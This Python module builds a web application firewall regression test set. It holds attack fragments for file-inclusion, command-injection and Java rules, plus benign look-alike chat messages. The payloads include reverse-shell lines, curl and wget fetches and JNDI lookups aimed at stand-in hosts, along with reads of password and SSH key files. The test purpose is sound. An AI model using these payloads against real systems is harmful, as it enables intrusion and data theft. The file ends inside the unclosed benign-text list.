"""Blind regression set "sixtyfourth": a fourth author's shortest fragments for the CRS 3.3.4 request-rule
titles of the rce, lfi, rfi and java families (and the request-rule titles CRS 4.x added at paranoia 1-2), with
benign requests that carry the same words innocently.

Angle: for each detection title, the atomic payloads a regression suite would list one per test, the shortest
fragment that still carries the attack the title names (a lone command after a separator, a bare file path, a
traversal of a few levels, a bare include URL, a lone expression or lookup), then the same fragments with one
obfuscation each (case, whitespace or comment substitutes, quoting, an encoding a server decodes). 8 to 12
payloads per title, one sub-family per title:

- lfi: traversal-encoded (930100), traversal-plain (930110), os-file-access (930120), restricted-file (930130),
  os-file-headers (4.x, OS file in request headers), traversal-triple-dot (4.x, /.../).
- rfi: rfi-ip-url (931100), rfi-vuln-param (931110), rfi-trailing-question (931120), rfi-off-domain (931130).
- rce: unix-cmd-injection (932100), unix-cmd-injection-b (932105), windows-cmd-injection (932110),
  windows-cmd-injection-b (932115), powershell (932120), unix-shell-expression (932130), windows-for-if (932140),
  direct-unix-exec (932150), unix-shell-code (932160), shellshock-header (932170), shellshock-args (932171),
  restricted-upload (932180), rce-bypass (932200); 4.x: unix-cmd-no-evasion, unix-cmd-evasion, unix-alias,
  unix-history, unix-short-cmd-pipes, sqlite-shell, mail-protocol-cmd, windows-cmd-evasion, shell-code-headers,
  direct-unix-abs-wildcard.
- java: java-class (944100), java-process-spawn (944110), java-serialization-gadget (944120),
  suspicious-java-class (944130), java-magic-bytes (944200), java-magic-base64 (944210),
  java-serialization-pl2 (944240), java-method (944250); 4.x: log4shell, class-loading, java-script-upload.
  (The 4.x "Suspicious Java method detected" title is 944250's and shares its sub-family.)

Placements: every payload is sent twice. Once to our real routes, rotating over the query of /api/users, the
admin search form (with csrf_token), a JSON body of /api/users, a cookie, the User-Agent, the Referer, another
header (X-Client-Note), a parameter name, an XML body, a multipart field or filename and the URL path. Once the
way a WAF's regression suite sends it ("rs-" placements): to paths that are not our routes (/, /index.php,
/get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test,
id, arg1), as a query string, a form body, a JSON body, an XML body, a raw form-typed body that is not
key=value, the User-Agent, the Referer, a custom header (X-Test) or a cookie. Titles about headers only go to
headers and cookies, the argument-only Shellshock title only to arguments, the upload titles to multipart
filenames and X-Filename. A payload holding a %XX (or %uXXXX) escape is sent with that escape as written, so
the server decodes it; any other payload is percent-encoded where its placement needs it.

Benign: the same words as people type them, on our routes: Slack messages and bios (chat_and_bio), the same
texts typed into the admin search box, public documentation links, names and addresses, upload file names,
and ordinary Referer and User-Agent values.

Authorship and independence: written from general knowledge and the rule titles alone, by an author who had
not seen the other authors' tests for the same titles; no ruleset, rule regression test, engine code or public
payload list was read. The set is deterministic (no clock, no randomness) and was measured once, through the
real stack, on unchanged code; no payload was changed after measuring.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, link_requests, prose_request

NAME = "sixtyfourth"

# ---------------------------------------------------------------------------------------------------------------
# Placements
# ---------------------------------------------------------------------------------------------------------------

REAL_ALL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Note",
            "param-name", "xml", "multipart-field", "path"]
RS_ALL = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
          "rs-header:X-Test", "rs-cookie"]
REAL_HEADERS = ["header:User-Agent", "header:Referer", "header:X-Client-Note", "cookie"]
RS_HEADERS = ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test", "rs-cookie"]
REAL_ARGS = ["query", "form", "json", "param-name", "multipart-field"]
RS_ARGS = ["rs-query", "rs-form", "rs-json", "rs-raw-body"]
REAL_UPLOAD = ["multipart-filename"]
RS_UPLOAD = ["rs-multipart-filename", "rs-header:X-Filename"]
REAL_PAIR = ["query", "form", "json", "multipart-field", "cookie"]
RS_PAIR = ["rs-query", "rs-form", "rs-json", "rs-raw-body", "rs-cookie"]
REAL_BYTES = ["query", "form", "cookie", "param-name", "path"]
RS_BYTES = ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"]

REAL_NAMES = ["q", "name", "file", "search", "filter", "note"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/", "/index.php", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
BOUNDARY = "----sixtyfourthFormBoundary7MA4YWxk"
ESCAPE = re.compile(r"%(?:[0-9A-Fa-f]{2}|u[0-9A-Fa-f]{4})")


def _enc(value: str, safe: str = "") -> str:
    """The value as it goes into a URL or a form body: written escapes kept (the server decodes them), anything
    else percent-encoded."""
    if ESCAPE.search(value):
        return urllib.parse.quote(value, safe="%/.:" + safe)
    return urllib.parse.quote(value, safe=safe)


def _header_safe(value: str) -> bool:
    return value.isascii() and not any(c in value for c in "\r\n\x00")


def _headers(extra: dict[str, str] | None = None) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": "*/*", **(extra or {})}


def _multipart(fields: list[tuple[str, str]], filename: tuple[str, str] | None = None) -> str:
    parts = []
    for name, value in fields:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    if filename is not None:
        field, fname = filename
        fname = fname.replace("\"", "%22")
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{fname}\"\r\n"
                     "Content-Type: application/octet-stream\r\n\r\nhello\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _mp_request(uri: str, body: str) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers({"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})}


def _xml_value(payload: str) -> str:
    """A payload as XML element content: XML fragments go in as written, anything else escaped."""
    return payload if payload.startswith("<") else escape(payload)


def _real(place: str, name: str, value: str) -> dict[str, Any]:
    """`value` at one of our real routes."""
    if place == "query":
        return _get(f"/api/users?{_enc(name)}={_enc(value)}&page=1")
    if place == "form":
        return {**_form("/admin/users/search", []),
                "body": f"csrf_token=t0k3n&{_enc(name)}={_enc(value)}"}
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: value})
    if place == "cookie":
        return {**_get("/api/users?page=1"),
                "headers": _headers({"Cookie": f"session=abc123; {_enc(name)}={_enc(value)}"})}
    if place.startswith("header:"):
        header = place.split(":", 1)[1]
        return {**_get("/api/users?page=1"), "headers": _headers({header: value})}
    if place == "param-name":
        return _get(f"/api/users?{_enc(value)}=1&page=1")
    if place == "xml":
        body = f"<?xml version=\"1.0\"?><user><email>a@example.org</email><{name}>{_xml_value(value)}</{name}></user>"
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers({"Content-Type": "application/xml"})}
    if place == "multipart-field":
        return _mp_request("/admin/users/search", _multipart([("csrf_token", "t0k3n"), (name, value)]))
    if place == "multipart-filename":
        return _mp_request("/api/users", _multipart([("name", "Ann")], ("avatar", value)))
    if place == "path":
        return _get("/api/users/" + _enc(value))
    raise ValueError(place)


def _rs(place: str, name: str, value: str, k: int) -> dict[str, Any]:
    """`value` the way a WAF regression suite sends it: a path that is not our route, an arbitrary name."""
    gpath, ppath = RS_GET_PATHS[k % len(RS_GET_PATHS)], RS_POST_PATHS[k % len(RS_POST_PATHS)]
    if place == "rs-query":
        return _get(f"{gpath}?{_enc(name)}={_enc(value)}")
    if place == "rs-form":
        return {**_form(ppath, []), "body": f"{_enc(name)}={_enc(value)}"}
    if place == "rs-json":
        return _json(ppath, {name: value})
    if place == "rs-xml":
        return {"method": "POST", "uri": ppath, "body": f"<?xml version=\"1.0\"?><{name}>{_xml_value(value)}</{name}>",
                "headers": _headers({"Content-Type": "text/xml"})}
    if place == "rs-raw-body":
        return {**_form(ppath, []), "body": value}
    if place == "rs-cookie":
        return {**_get(gpath), "headers": _headers({"Cookie": f"{_enc(name)}={_enc(value)}"})}
    if place.startswith("rs-header:"):
        header = place.split(":", 1)[1]
        return {**_get(gpath), "headers": _headers({header: value})}
    if place == "rs-multipart-filename":
        return _mp_request(ppath, _multipart([], (name, value)))
    raise ValueError(place)


# ---------------------------------------------------------------------------------------------------------------
# Payloads: (category, sub, real placements, rs placements, payloads); atomic fragments first, then one
# obfuscation each.
# ---------------------------------------------------------------------------------------------------------------

Title = tuple[str, str, list[str], list[str], list[str]]

LFI: list[Title] = [
    ("lfi", "traversal-encoded", REAL_ALL, RS_ALL, [
        "%2e%2e%2f%2e%2e%2f",
        "%2e%2e/%2e%2e/",
        "..%2f..%2f",
        "..%5c..%5c",
        "%2e%2e%5c%2e%2e%5c",
        "%2E%2E%2F%2E%2E%2F",
        "..%252f..%252f",
        "%252e%252e%252f",
        "..%c0%af..%c0%af",
        "%u002e%u002e%u2215",
        "..%2f..%2f..%2fetc",
    ]),
    ("lfi", "traversal-plain", REAL_ALL, RS_ALL, [
        "../../",
        "../../../",
        "..\\..\\",
        "/../../",
        "x/../../",
        "..//..//",
        "./.././../",
        "..;/..;/",
        "....//....//",
        "..\\/..\\/",
    ]),
    ("lfi", "os-file-access", REAL_ALL, RS_ALL, [
        "/etc/passwd",
        "etc/shadow",
        "/proc/self/environ",
        "c:\\boot.ini",
        "windows/win.ini",
        "/etc/group",
        ".ssh/id_rsa",
        "/ETC/PASSWD",
        "/etc//passwd",
        "/etc/./shadow",
        "%2fetc%2fpasswd",
        "C:/WINDOWS/WIN.INI",
    ]),
    ("lfi", "restricted-file", REAL_ALL, RS_ALL, [
        ".git/config",
        ".env",
        ".htpasswd",
        ".htaccess",
        "web.config",
        "WEB-INF/web.xml",
        ".svn/entries",
        ".DS_Store",
        ".GIT/config",
        "/.git//HEAD",
        "%2eenv",
        "WEB-INF%2fweb.xml",
    ]),
    ("lfi", "os-file-headers", REAL_HEADERS, RS_HEADERS, [
        "/etc/passwd",
        "/proc/self/environ",
        "/etc/shadow",
        "c:\\windows\\system32\\drivers\\etc\\hosts",
        "/root/.bash_history",
        "/proc/version",
        "/ETC/passwd",
        "/etc/./passwd",
        "file:///etc/passwd",
        "/etc/pass%77d",
    ]),
    ("lfi", "traversal-triple-dot", REAL_ALL, RS_ALL, [
        ".../.../",
        "/.../",
        "...\\...\\",
        "..../..../",
        ".../.../etc",
        "%2e%2e%2e%2f",
        ".../...//",
        "...%2f...%2f",
        ".%2e./.%2e./",
        "...\\\\...\\\\",
    ]),
]

RFI: list[Title] = [
    ("rfi", "rfi-ip-url", REAL_ALL, RS_ALL, [
        "http://198.51.100.4/shell.txt",
        "https://203.0.113.7/x.php",
        "ftp://192.0.2.10/a.txt",
        "ftps://192.0.2.10/a.txt",
        "file://10.0.0.1/x",
        "http://203.0.113.7:8080/",
        "HTTP://198.51.100.4/x",
        "hTtPs://203.0.113.7/x",
        "http%3a%2f%2f198.51.100.4%2fx.txt",
        "http://user@198.51.100.4/x",
        " http://198.51.100.4/x",
    ]),
    # payload "name=url": the parameter name is part of the attack
    ("rfi", "rfi-vuln-param", REAL_PAIR, RS_PAIR, [
        "include=http://evil.example/s.txt",
        "page=https://evil.example/x",
        "file=ftp://evil.example/a",
        "path=http://evil.example/",
        "template=http://evil.example/t",
        "inc=http://evil.example/i",
        "mosConfig_absolute_path=http://evil.example/",
        "PAGE=HTTP://evil.example/x",
        "file=http%3a%2f%2fevil.example%2fx",
        "Include=https://evil.example/x",
        "dir=http://evil.example/ ",
    ]),
    ("rfi", "rfi-trailing-question", REAL_ALL, RS_ALL, [
        "http://evil.example/shell.txt?",
        "https://evil.example/x?",
        "ftp://evil.example/a.txt?",
        "http://evil.example/x.php??",
        "http://evil.example:80/x?",
        "HTTP://EVIL.EXAMPLE/X?",
        "http://evil.example/x%3f",
        "http://evil.example/x.txt?&",
        "hTTp://evil.example/x?",
        "http://evil.example/x? ",
    ]),
    ("rfi", "rfi-off-domain", REAL_ALL, RS_ALL, [
        "http://evil.example/shell.txt",
        "https://evil.example/",
        "ftp://evil.example/a",
        "//evil.example/x",
        "file://evil.example/x",
        "HTTPS://EVIL.EXAMPLE/x",
        "http:\\\\evil.example\\x",
        "https:%2f%2fevil.example%2fx",
        "\\\\evil.example\\share\\x.php",
        "http://evil.example%2fx",
    ]),
]

RCE: list[Title] = [
    ("rce", "unix-cmd-injection", REAL_ALL, RS_ALL, [
        ";id",
        "|id",
        "&&id",
        "||ls",
        ";cat x",
        "|curl evil.example",
        "\nid",
        "%0aid",
        ";\tid",
        "; /usr/bin/id",
        "&&\tls",
        ";  cat x",
    ]),
    ("rce", "unix-cmd-injection-b", REAL_ALL, RS_ALL, [
        ";whoami",
        "|uname -a",
        "&&wget evil.example",
        "||ping -c1 x",
        ";nc -l 4444",
        ";sh",
        "|python -V",
        "%0awhoami",
        ";\twhoami",
        "|  uname",
        "&&/usr/bin/wget x",
        "%3Bperl -e1",
    ]),
    ("rce", "windows-cmd-injection", REAL_ALL, RS_ALL, [
        "&dir",
        "|type win.ini",
        "&&net user",
        "|ipconfig",
        "&cmd /c ver",
        "& DIR",
        "|TYPE win.ini",
        "&& NeT uSeR",
        "%26dir",
        "&\tdir",
    ]),
    ("rce", "windows-cmd-injection-b", REAL_ALL, RS_ALL, [
        "&whoami",
        "|systeminfo",
        "&&tasklist",
        "|netstat -an",
        "&reg query HKLM",
        "&WHOAMI",
        "| SYSTEMINFO",
        "%7ctasklist",
        "&&  NetStat",
        "&\twhoami",
    ]),
    ("rce", "powershell", REAL_ALL, RS_ALL, [
        "powershell -enc SQBFAFgA",
        "IEX(New-Object Net.WebClient)",
        "Invoke-Expression $x",
        "Get-ChildItem env:",
        "Start-Process calc",
        "Invoke-WebRequest evil.example",
        "PoWeRsHeLl -nop",
        "powershell.exe -w hidden",
        "invoke-EXPRESSION x",
        "powershell%20-enc%20aQBkAA",
        "iex  (iwr evil.example)",
    ]),
    ("rce", "unix-shell-expression", REAL_ALL, RS_ALL, [
        "$(id)",
        "`id`",
        "${IFS}",
        "<(id)",
        ">(id)",
        "$((1+1))",
        "$( id )",
        "` id `",
        "%24%28id%29",
        ">( ls )",
    ]),
    ("rce", "windows-for-if", REAL_ALL, RS_ALL, [
        "for /f %i in (x) do y",
        "if exist c:\\x echo y",
        "for /l %i in (1,1,9) do ping x",
        "if defined x cmd",
        "FOR /F %i IN (x) DO y",
        "fOr /d %a in (*) do dir",
        "if not exist x.txt del y",
        "IF EXIST C:\\ ECHO X",
        "for\t/f %i in (x) do y",
    ]),
    ("rce", "direct-unix-exec", REAL_ALL, RS_ALL, [
        "cat /etc/hosts",
        "wget evil.example",
        "nc -e sh x 1",
        "id",
        "whoami",
        "uname -a",
        "curl evil.example",
        "  id",
        "\tuname -a",
        "cat%20/etc/hosts",
        "whoami ",
    ]),
    ("rce", "unix-shell-code", REAL_ALL, RS_ALL, [
        "/bin/sh",
        "/bin/bash",
        "bin/nc",
        "/usr/bin/perl",
        "/bin/zsh -c id",
        "/usr/bin/python3",
        "/bin//sh",
        "/bin/./bash",
        "%2fbin%2fsh",
        "/BIN/SH",
        "/usr/local/bin/bash",
    ]),
    ("rce", "shellshock-header", REAL_HEADERS, RS_HEADERS, [
        "() { :; }; /bin/id",
        "() { :;};echo x",
        "() { _; } >_[$($())] { id; }",
        "() { :; }; ping x",
        "() { x;}; cat /etc/hosts",
        "()  {  :;  };  id",
        "() { :; }; /bin/bash -c id",
        "()\t{ :; }; id",
        "( ) { :; }; id",
    ]),
    ("rce", "shellshock-args", REAL_ARGS, RS_ARGS, [
        "() { :; }; id",
        "() { :;}; /bin/sh",
        "() { foo; }; echo x",
        "() { :; }; curl evil.example",
        "%28%29%20%7B%20%3A%3B%20%7D%3B%20id",
        "()  { :; };id",
        "() {\t:; }; id",
        "() { _;} ;id",
    ]),
    ("rce", "restricted-upload", REAL_UPLOAD, RS_UPLOAD, [
        ".htaccess",
        "web.config",
        ".user.ini",
        "php.ini",
        ".htpasswd",
        ".HTACCESS",
        "Web.Config",
        "web.config.",
        "web.config::$DATA",
        "./.htaccess",
        ".htaccess ",
    ]),
    ("rce", "rce-bypass", REAL_ALL, RS_ALL, [
        "c''at x",
        "c\\at x",
        "ca$@t x",
        "/???/c?t x",
        "w'h'o'am'i",
        "/bin/c?t",
        "who$()ami",
        "cat$u x",
        "wh\"o\"ami",
        "c%27%27at x",
    ]),
    ("rce", "unix-cmd-no-evasion", REAL_ALL, RS_ALL, [
        ";ls -la /",
        "|tail /etc/hosts",
        "&&head x",
        ";chmod 777 x",
        "|base64 x",
        ";find / -name x",
        ";rm -rf /tmp/x",
        "%3Bls -la",
        ";  find /",
        "|\ttail x",
    ]),
    ("rce", "unix-cmd-evasion", REAL_ALL, RS_ALL, [
        "{cat,/etc/hosts}",
        "cat${IFS}x",
        "cat$IFS$9x",
        "ca\"\"t x",
        "$(printf 'id')",
        "echo aWQ=|base64 -d|sh",
        "l\\s -la",
        "/u??/b??/i?",
        "i$@d",
        "X=$'cat\\x20x';$X",
    ]),
    ("rce", "unix-alias", REAL_ALL, RS_ALL, [
        ";alias ls=id",
        "alias x='id'",
        "|alias",
        "&&alias a=whoami;a",
        "unalias -a",
        ";a'l'ias x=id",
        ";\\alias",
        ";  alias  x=id",
        "%3Balias x=id",
    ]),
    ("rce", "unix-history", REAL_ALL, RS_ALL, [
        ";!!",
        "|!-1",
        "&& !$",
        "!-2",
        ";history",
        ";fc -l",
        "history -c",
        "%3B!!",
        "; !?id?",
        ";\t!-1",
    ]),
    ("rce", "unix-short-cmd-pipes", REAL_ALL, RS_ALL, [
        "|ps",
        "|w",
        "|df",
        "|du",
        "|env",
        "|ss",
        "|who",
        "|top",
        "%7cps",
        "|\tdf",
        "| /bin/ps",
        "||  who",
    ]),
    ("rce", "sqlite-shell", REAL_ALL, RS_ALL, [
        ".shell id",
        ".system whoami",
        ";.shell ls",
        "\n.system id",
        ".shell cat x",
        ".SHELL id",
        ".shell\tid",
        "%0a.system id",
        ".system   uname",
    ]),
    ("rce", "mail-protocol-cmd", REAL_ARGS, RS_ARGS, [
        "\r\nRCPT TO:<a@evil.example>",
        "\r\nMAIL FROM:<a@evil.example>",
        "\r\nDATA",
        "\r\nA1 LOGIN admin x",
        "\r\nA1 SELECT INBOX",
        "\r\nUSER admin\r\nPASS x",
        "\r\nRETR 1",
        "%0d%0aRCPT TO:<a@evil.example>",
        "\nrcpt to:<a@evil.example>",
        "\r\nA01 FETCH 1 BODY[]",
    ]),
    ("rce", "windows-cmd-evasion", REAL_ALL, RS_ALL, [
        "cmd.exe /c whoami",
        "cmd /c dir",
        "%COMSPEC% /c dir",
        "cmd /v:on /c x",
        "powershell -e JABz",
        "c^m^d /c dir",
        "p^ow^ershell -c x",
        "cmd /c \"who\"\"ami\"",
        "CMD /C DIR",
        "p\"owershe\"ll",
    ]),
    ("rce", "shell-code-headers", REAL_HEADERS, RS_HEADERS, [
        "/bin/bash -c id",
        "$(id)",
        "`whoami`",
        "; /bin/sh",
        "| nc evil.example 1",
        "bash -i >& /dev/tcp/x/1 0>&1",
        "${IFS}id",
        "/bin/ba''sh",
        "$( curl evil.example )",
        "`\tid`",
    ]),
    ("rce", "direct-unix-abs-wildcard", REAL_ALL, RS_ALL, [
        "/bin/cat /etc/hosts",
        "/usr/bin/id",
        "/bin/ls -la",
        "/usr/bin/wget x",
        "/???/??t x",
        "/bin/c*t x",
        "/usr/bin/w?oami",
        "/b?n/i?",
        "/u*/b*/id",
        "%2fusr%2fbin%2fid",
    ]),
]

JAVA: list[Title] = [
    ("java", "java-class", REAL_ALL, RS_ALL, [
        "java.lang.Runtime",
        "java.lang.ProcessBuilder",
        "java.lang.Runtime.getRuntime()",
        "Runtime.getRuntime().exec(x)",
        "new ProcessBuilder(x)",
        "java.lang.ProcessImpl",
        "java.lang.UNIXProcess",
        "JAVA.LANG.RUNTIME",
        "java%2elang%2eRuntime",
        "java.lang.\\u0052untime",
        "java/lang/Runtime",
    ]),
    ("java", "java-process-spawn", REAL_ALL, RS_ALL, [
        "<java.lang.ProcessBuilder>",
        "<command><string>id</string></command>",
        "java.lang.ProcessBuilder.start",
        "new java.lang.ProcessBuilder(\"id\").start()",
        "<object class=\"java.lang.ProcessBuilder\">",
        "<void method=\"start\"/>",
        "<JAVA.LANG.PROCESSBUILDER>",
        "java.lang.ProcessBuilder%28%22id%22%29",
        "&lt;java.lang.ProcessBuilder&gt;",
        "<java.lang.ProcessBuilder ><command>",
    ]),
    ("java", "java-serialization-gadget", REAL_ALL, RS_ALL, [
        "InvokerTransformer(\"exec\") java.lang.Runtime",
        "ChainedTransformer ConstantTransformer java.lang.Runtime",
        "InstantiateTransformer java.lang.ProcessBuilder",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "CloneTransformer java.lang.Runtime",
        "java.beans.XMLDecoder java.lang.ProcessBuilder",
        "INVOKERTRANSFORMER JAVA.LANG.RUNTIME",
        "invokertransformer%20java.lang.runtime",
        "org/apache/commons/collections/functors/InvokerTransformer java/lang/Runtime",
        "InvokerTransformer\tjava.lang.ProcessBuilder",
    ]),
    ("java", "suspicious-java-class", REAL_ALL, RS_ALL, [
        "com.opensymphony.xwork2.ActionContext",
        "javax.script.ScriptEngineManager",
        "java.lang.reflect.Method",
        "org.apache.commons.collections.Transformer",
        "java.lang.ClassLoader",
        "com.sun.rowset.JdbcRowSetImpl",
        "java.net.URLClassLoader",
        "org.apache.xalan.xsltc.trax.TemplatesImpl",
        "COM.OPENSYMPHONY.XWORK2",
        "javax%2escript%2eScriptEngineManager",
        "java/lang/reflect/Method",
    ]),
    ("java", "java-magic-bytes", REAL_BYTES, RS_BYTES, [
        "%AC%ED%00%05",
        "%ac%ed%00%05sr",
        "%AC%ED%00%05t%00%01x",
        "%AC%ED%00%05ur",
        "%AC%ED%00%05sr%00%11java.util.HashMap",
        "x%AC%ED%00%05",
        "aced0005",
        "ACED00057372",
        "\\xac\\xed\\x00\\x05",
        "%25AC%25ED%2500%2505",
    ]),
    ("java", "java-magic-base64", REAL_ALL, RS_ALL, [
        "rO0ABQ==",
        "rO0ABXNy",
        "rO0ABXQABGFiY2Q=",
        "rO0ABXVy",
        "KztAAU",
        "Cs7QAF",
        "rO0ABXNyABNqYXZhLnV0aWwuQXJyYXlMaXN0",
        "x rO0ABXNy",
        "rO0%41BXNy",
        "rO0ABXNy%3D%3D",
    ]),
    ("java", "java-serialization-pl2", REAL_ALL, RS_ALL, [
        "InvokerTransformer",
        "InstantiateFactory",
        "PrototypeCloneFactory",
        "WhileClosure",
        "java.beans.XMLDecoder",
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "invokertransformer",
        "INSTANTIATEFACTORY",
        "org%2eapache%2ecommons%2ecollections%2efunctors%2eWhileClosure",
        "XMLDecoder\t",
    ]),
    ("java", "java-method", REAL_ALL, RS_ALL, [
        "getRuntime()",
        ".exec(\"id\")",
        "getClass().forName(x)",
        "getMethod(\"exec\")",
        "getDeclaredMethod(x)",
        "java.lang.Runtime.getRuntime().exec",
        "ProcessBuilder.start()",
        "newInstance()",
        "GETRUNTIME()",
        "getRuntime ( )",
        "java.lang.Runtime%2egetRuntime%28%29",
    ]),
    ("java", "log4shell", REAL_ALL, RS_ALL, [
        "${jndi:ldap://evil.example/a}",
        "${jndi:rmi://evil.example/a}",
        "${jndi:dns://evil.example}",
        "${jndi:ldaps://evil.example/a}",
        "${${lower:j}ndi:ldap://x/a}",
        "${${::-j}${::-n}di:ldap://x/a}",
        "${JNDI:LDAP://x/a}",
        "%24%7Bjndi:ldap://x/a%7D",
        "${${env:X:-j}ndi:ldap://x/a}",
        "${j${upper:n}di:ldap://x}",
        "${${date:'j'}ndi:ldap://x}",
    ]),
    ("java", "class-loading", REAL_ALL, RS_ALL, [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "class.classLoader.URLs[0]=x",
        "class.module.classLoader",
        "Class.forName(\"x\")",
        "new java.net.URLClassLoader(x)",
        "getClassLoader().loadClass(x)",
        "defineClass(x)",
        "CLASS.MODULE.CLASSLOADER",
        "class[module][classLoader]",
        "class%2emodule%2eclassLoader",
        "Class.module.ClassLoader.resources",
    ]),
    ("java", "java-script-upload", REAL_UPLOAD, RS_UPLOAD, [
        "shell.jsp",
        "x.jspx",
        "a.jspf",
        "cmd.jsp;.jpg",
        "X.JSP",
        "x.JsPx",
        "x.jsp.",
        "x.jsp%00.png",
        "x.jsp::$DATA",
        "a.jsp ",
    ]),
]

TITLES: list[Title] = LFI + RFI + RCE + JAVA


def _pick(places: list[str], start: int, payload: str) -> str:
    """The first placement from `start` (rotating) that can carry `payload`."""
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if "header" in place and not _header_safe(payload):
            continue
        return place
    return places[start % len(places)]


def _split(sub: str, payload: str, name: str) -> tuple[str, str]:
    """The parameter name and value a payload goes in (rfi-vuln-param carries its own name)."""
    if sub == "rfi-vuln-param":
        pname, _, value = payload.partition("=")
        return pname, value
    return name, payload


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t, (category, sub, real_places, rs_places, payloads) in enumerate(TITLES):
        for i, payload in enumerate(payloads):
            real = _pick(real_places, i + t, payload)
            rs = _pick(rs_places, i + 2 * t, payload)
            rname, rvalue = _split(sub, payload, REAL_NAMES[(i + t) % len(REAL_NAMES)])
            sname, svalue = _split(sub, payload, RS_NAMES[(i + t) % len(RS_NAMES)])
            if rs == "rs-raw-body" and sub == "rfi-vuln-param":
                svalue = payload
            records = [(real, _real(real, rname, rvalue)), (rs, _rs(rs, sname, svalue, i + t))]
            for place, rec in records:
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, as people type them
# ---------------------------------------------------------------------------------------------------------------

CHAT = [
    # paths, files and traversal talk
    "the nginx config lives in /etc/nginx/conf.d now, not sites-enabled",
    "can you cat the release notes into the channel? I lost the link",
    "we moved the docs from ../docs to the top-level docs folder",
    "the .env.example file has every variable you need, copy it to start",
    "don't commit your .env, it's in .gitignore for a reason",
    "the web.config for the old IIS site is archived in the legacy repo",
    "rename the folder to 2024-reports and I'll fix the links",
    "the passwd command prompts twice, that's expected on the new laptops",
    "hosts file on my mac had an old entry for staging, removed it",
    "the .git folder is huge, run git gc before you zip the repo",
    "the boot time of the new image is 12 seconds, down from 30",
    "win.ini? that's from Windows 3.1, we don't touch it",
    "logs are in /var/log/app, rotated daily",
    "the shadow DOM in the widget hides our CSS, use ::part",
    "environ variables are read at start, restart after changing them",
    "the proc folder of the project has the Procfile for heroku",
    "our htaccess rewrite rules moved into the nginx config last year",
    "WEB-INF is where the old Java app kept its web.xml, we can delete it",
    "the svn repo is read-only now, everything moved to git",
    "DS_Store files sneak into the zip from macs, add them to gitignore",
    "the ssh key rotation is on Friday, keep your id_rsa.pub handy",
    "the path in the breadcrumb reads Home / Reports / 2024",
    "a file called ... in the upload folder? must be a test",
    "use ./scripts/setup.sh from the repo root",
    "the relative link ../images/logo.png broke after the move",
    # urls and includes
    "the include in the header template pulls the nav partial",
    "page 3 of the spec has the retry rules",
    "the template for invoices is on the drive, file is invoice-v2.docx",
    "http links in emails get rewritten to https by the mailer",
    "the IP of the office printer is 192.168.1.40, ask IT if it moves",
    "our status page is at https://status.example.com",
    "the ftp server for the vendor was retired, they use sftp now",
    "the link ends with a question mark, the page still loads fine?",
    "is the partner site down? https://partner.example.net/login?",
    "put the file path in the ticket, not the whole log",
    "the dir listing on the CDN is turned off",
    "the mosaic feature of the photo app is cute",
    # unix commands in talk
    "I'll ping you when the deploy is done",
    "who is on call this weekend?",
    "the cat photo contest winner is Miso, congrats",
    "ls shows the new folders, looks right",
    "curl the health endpoint after the restart and post the status",
    "wget is not installed on the build image, use curl",
    "whoami in the new SSO shows my full email now",
    "uname says 6.8 on the new kernel",
    "nc is handy for checking that the port is open",
    "id tokens expire after an hour, refresh tokens after 30 days",
    "python 3.12 is the default on the runners now",
    "perl is still needed by the old report script",
    "the sh script for backups runs at 2am",
    "bash completion for our CLI is in the contrib folder",
    "please tail the log and tell me what you see",
    "head of sales wants the numbers by Monday",
    "chmod the script to make it executable before running",
    "find the invoice from March and forward it please",
    "rm the temp folder after the export, it's 4GB",
    "base64 images in the email template make it too big",
    "the top of the page shows the old logo",
    "ps: the meeting moved to 3pm",
    "df shows 80% on the data volume, time to resize",
    "du -sh on the uploads folder says 12G",
    "env vars for the staging app are in the vault",
    "ss replaced netstat on the new hosts",
    "history of the project is in the wiki, start at the 2019 page",
    "alias your long kubectl command, it saves typing",
    "the fc key on my keyboard is broken, had to remap it",
    "the w command shows who is logged in to the box",
    "top shows the java process at 200% cpu during the import",
    # windows, powershell
    "dir listing in explorer shows the file, but the app can't open it",
    "type the address into the browser bar and press enter",
    "net user settings are managed by IT now",
    "ipconfig shows the VPN address, looks fine",
    "systeminfo says the laptop has 16GB, not 32",
    "tasklist shows two copies of the agent running",
    "netstat showed the port in TIME_WAIT, it clears in a minute",
    "reg query for the proxy setting returned nothing on my machine",
    "PowerShell 7 is installed on all the new laptops",
    "run Get-ChildItem in the folder and send me the list",
    "Invoke-WebRequest is the PowerShell version of curl",
    "Start-Process opens the installer as admin",
    "the cmd window closes too fast, add pause at the end",
    "for each file in the folder, if it exists, we skip it",
    "if exist checks in the old batch files are fine",
    "for /f loops in batch are confusing, I rewrote it in python",
    "COMSPEC points to cmd.exe on every windows box",
    # shells, expressions, shellshock, sqlite, mail
